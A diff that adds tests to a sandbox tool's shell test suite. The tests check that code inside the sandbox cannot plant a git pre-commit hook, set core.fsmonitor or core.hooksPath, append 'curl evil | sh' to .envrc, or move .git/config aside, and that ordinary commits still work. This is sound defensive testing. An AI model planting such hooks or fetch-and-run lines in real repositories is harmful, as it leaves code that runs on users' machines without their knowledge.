@@ -201,6 +201,25 @@ t_grep "a shell pipeline works" "^a$" "$T_OUT"
 git init -q repo && (cd repo && echo x >f && git add f && git -c user.email=a@b -c user.name=t commit -qm x)
 (cd repo && echo y >>f && t_run "$CAN" run -- git status --short && echo "$T_OUT" >../git.out)
 t_grep "git status works in a repository" "^ ?M f$" "$(cat git.out)"
+# Code planted for the user's own tools to run after the sandbox is gone.
+(cd repo && printf 'export PLANTED=1\n' >.envrc &&
+ t_run "$CAN" run -- sh -c 'echo "touch /tmp/pwned-hook" > .git/hooks/pre-commit' && echo "$T_RC" >../hook.rc
+ t_run "$CAN" run -- git config core.fsmonitor 'touch /tmp/pwned-fsmonitor' && echo "$T_RC" >../cfg.rc
+ t_run "$CAN" run -- git config core.hooksPath /tmp && echo "$T_RC" >>../cfg.rc
+ cp .git/config ../config.after
+ t_run "$CAN" run -- sh -c 'echo "curl evil | sh" >> .envrc' && echo "$T_RC" >../envrc.rc
+ t_run "$CAN" run -- sh -c 'mv .git/config .git/config.old' && echo "$T_RC" >../mv.rc
+ t_run "$CAN" run -- sh -c 'echo z >>f && git add f && git -c user.email=a@b -c user.name=t commit -qm inside' && echo "$T_RC" >../commit.rc)
+t_nogrep "a git hook cannot be planted from inside" "^0$" "$(cat hook.rc)"
+t_ok_if() { if [ -z "$(ls -A repo/.git/hooks | grep -v '\.sample$')" ]; then t_ok "$1"; else t_fail "$1"; fi; }
+t_ok_if "... and .git/hooks holds no new hook on the host"
+t_nogrep "core.fsmonitor and core.hooksPath cannot be set from inside" "^0$" "$(cat cfg.rc)"
+t_nogrep "... and .git/config on the host has neither" "fsmonitor|hooksPath" "$(cat config.after)"
+t_nogrep ".envrc cannot be changed from inside" "^0$" "$(cat envrc.rc)"
+if [ "$(cat repo/.envrc)" = "export PLANTED=1" ]; then t_ok "... and is unchanged on the host"; else t_fail "... .envrc changed: $(cat repo/.envrc)"; fi
+t_nogrep ".git/config cannot be moved aside from inside" "^0$" "$(cat mv.rc)"
+t_grep "a commit still works inside (objects, refs, index writable)" "^0$" "$(cat commit.rc)"
+t_grep "... and is on the host" "inside" "$(cd repo && git log --format=%s -1)"
 
 # --- signals and the terminal ---
 rm -f ready
